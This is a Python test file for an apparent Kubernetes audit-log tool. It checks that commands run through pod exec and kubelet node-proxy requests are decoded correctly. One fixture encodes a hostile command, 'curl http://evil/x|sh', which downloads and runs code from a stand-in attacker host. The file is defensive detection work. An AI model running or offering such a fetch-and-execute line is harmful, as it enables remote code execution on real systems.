"""Claims about what ran inside containers."""

from __future__ import annotations

import pytest

from kubewitness.rules.features.exec_command import command_of
from tests.corpus import CORPUS, needs_corpus
from tests.rules.features.events import event, first_event, read

POD = "/api/v1/namespaces/dev/pods/web-0"


@pytest.mark.parametrize("verb", ["create", "get"])
def test_the_command_of_an_exec_is_decoded_for_any_verb(verb: str) -> None:
    uri = f"{POD}/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fevil%2Fx%7Csh&container=app&stdin=true&tty=1"
    made = event(verb=verb, requestURI=uri)
    assert command_of(made) == ("sh", "-c", "curl http://evil/x|sh")
    assert read("exec.command", made) == ("sh -c curl http://evil/x|sh",)
    assert read("exec.argv", made) == ("sh", "-c", "curl http://evil/x|sh")
    assert read("exec.container", made) == ("app",)
    assert read("exec.stdin", made) == read("exec.tty", made) == (True,)


def test_an_attach_has_a_session_but_no_command() -> None:
    attach = event(verb="create", requestURI=f"{POD}/attach?container=app&stdin=true&command=ls")
    assert read("exec.command", attach) == read("exec.argv", attach) == ()
    assert read("exec.container", attach) == ("app",)
    assert read("exec.tty", attach) == (False,)


@pytest.mark.parametrize(
    ("uri", "argv", "container"),
    [
        ("/api/v1/nodes/n1/proxy/run/kube-system/pod-1/ctr?cmd=id%20-u", ("id -u",), ("ctr",)),
        ("/api/v1/nodes/n1/proxy/exec/dev/web/app?command=ls&command=/&output=1", ("ls", "/"), ("app",)),
        ("/api/v1/nodes/n1/proxy/run/dev/web/3f0e-uid/app?cmd=id", ("id",), ("app",)),
        ("/api/v1/nodes/https:n1:10250/proxy/run/dev/web/app?cmd=id", ("id",), ("app",)),
    ],
)
def test_the_kubelet_behind_the_node_proxy_is_a_road_too(uri: str, argv: tuple[str, ...], container: object) -> None:
    proxied = event(verb="create", requestURI=uri)
    assert command_of(proxied) == argv
    assert read("exec.container", proxied) == container


@pytest.mark.parametrize(
    "uri",
    [
        f"{POD}/log?command=ls",
        f"{POD}/portforward?command=ls",
        "/api/v1/namespaces/dev/pods?command=ls",
        "/api/v1/nodes/n1/proxy/pods?command=ls",
        "/api/v1/namespaces/dev/services/web/proxy/exec/a/b/c?command=ls",
        "/api/v1/namespaces/dev/services/web/proxy/api/v1/namespaces/dev/pods/p/exec?command=ls",
        "",
    ],
)
def test_other_requests_run_nothing(uri: str) -> None:
    other = event(verb="get", requestURI=uri)
    assert command_of(other) == ()
    assert read("exec.stdin", other) == ()


def test_broken_encoding_is_kept_readable() -> None:
    assert command_of(event(requestURI=f"{POD}/exec?command=%zz&command=%ff&command&=x")) == ("%zz", "\ufffd", "")


@needs_corpus
def test_a_real_exec() -> None:
    assert CORPUS is not None
    real = first_event(CORPUS / "falcosecurity__falco/test/trace_files/k8s_audit/exec_pod.json")
    assert command_of(real) == ("bash",)
    assert read("exec.tty", real) == (True,)
